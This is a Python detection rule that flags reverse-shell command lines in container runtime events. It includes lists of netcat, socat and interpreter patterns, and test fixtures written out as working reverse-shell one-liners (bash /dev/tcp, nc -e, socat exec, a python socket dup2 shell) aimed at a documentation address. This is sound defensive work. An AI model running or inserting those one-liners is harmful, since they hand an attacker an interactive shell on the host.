"""A command line that wires a shell to a network socket: the classic reverse shell one-liners."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.tetragon.fixtures import tetragon_record

NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
#: netcat options that run a program with the connection as its stdin and stdout.
NETCAT_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
INTERPRETERS = frozenset({"python", "python2", "python3", "perl", "ruby", "php", "lua", "node", "awk", "gawk"})
#: In an interpreter one-liner, a socket plus one of these hands the socket to a shell.
SHELL_HANDOFF = ("subprocess", "pty.spawn", "dup2", "/bin/sh", "/bin/bash", "exec(", "system(", "popen", "spawn(")


def reverse_shell_pattern(event: Event) -> str:
    """The pattern the command line matches ('' for none)."""
    program = program_name(event)
    args = event.actor.args
    command = " ".join(args)
    if "/dev/tcp/" in command or "/dev/udp/" in command:
        return "shell redirected to /dev/tcp"
    if program in NETCATS:
        return "netcat executing a program" if any(arg in NETCAT_EXEC for arg in args) else ""
    lowered = command.lower()
    if program == "socat":
        network = any(proto in lowered for proto in ("tcp", "udp", "ssl"))
        return "socat executing a program" if network and ("exec:" in lowered or "system:" in lowered) else ""
    if program.rstrip("0123456789.") in INTERPRETERS or program in INTERPRETERS:
        handoff = "socket" in lowered and any(marker in lowered for marker in SHELL_HANDOFF)
        return f"{program} socket handed to a shell" if handoff else ""
    if "mkfifo" in lowered and any(tool in lowered for tool in (" nc ", "|nc ", "ncat", "telnet", "openssl s_client")):
        return "named pipe between a shell and a network tool"
    return ""


def reverse_shell_context(event: Event) -> dict[str, Any]:
    return {"exe": event.actor.exe, "command": " ".join(event.actor.args), "pattern": reverse_shell_pattern(event),
            "parent_exe": event.actor.parent_exe, "container": event.k8s.container_name, "node": event.node}


DETECTION = EventDetection(
    id="runtime.reverse_shell",
    title="Reverse shell command line",
    alert_title="Reverse shell ({pattern}) by {program} in {namespace}/{pod} on {node}",
    description=(
        "A process started with a command line that connects a shell to the network: bash redirected to "
        "/dev/tcp, netcat or socat executing a shell, an interpreter one-liner handing a socket to a shell, or a "
        "named pipe between a shell and a network tool. This is how an attacker with code execution gets an "
        "interactive session back through egress, without needing any inbound access."
    ),
    severity="critical",
    mitre=["T1059.004", "T1095"],
    tags=["runtime", "execution", "command_and_control"],
    references=["https://attack.mitre.org/techniques/T1059/004/", "https://gtfobins.github.io/#+reverse%20shell"],
    false_positives=["Penetration tests and red-team exercises."],
    kinds=["process.exec"],
    match=lambda event: bool(reverse_shell_pattern(event)),
    context=reverse_shell_context,
    dedup="{cluster}/{node}/{namespace}/{pod}/{exe}/{pattern}",
    examples=[
        Example(
            name="bash -i >& /dev/tcp (Tetragon)",
            source="tetragon",
            fires=True,
            record=tetragon_record(
                binary="/bin/bash", arguments='-c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"',
                parent="/usr/local/bin/python3",
            ),
        ),
        Example(
            name="nc -e /bin/sh (Falco)",
            source="falco",
            fires=True,
            record=falco_record(
                "Netcat Remote Code Execution in Container", "execve",
                {"proc.exepath": "/usr/bin/nc", "proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.9 4444",
                 "proc.pname": "sh"},
                priority="Warning",
            ),
        ),
        Example(
            name="socat exec over TCP",
            source="tetragon",
            fires=True,
            record=tetragon_record(binary="/usr/bin/socat", arguments="tcp:203.0.113.9:443 exec:/bin/sh,pty,stderr"),
        ),
        Example(
            name="python socket one-liner",
            source="tetragon",
            fires=True,
            record=tetragon_record(
                binary="/usr/bin/python3",
                arguments='-c "import socket,subprocess,os;s=socket.socket();s.connect((\'203.0.113.9\',53));'
                'os.dup2(s.fileno(),0);subprocess.call([\'/bin/sh\',\'-i\'])"',
            ),
        ),
        Example(
            name="netcat port check",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/bin/nc", arguments="-z -w 2 postgres 5432"),
        ),
        Example(
            name="python running the application",
            source="tetragon",
            fires=False,
            record=tetragon_record(binary="/usr/local/bin/python", arguments="app.py", container_pid=1),
        ),
    ],
)
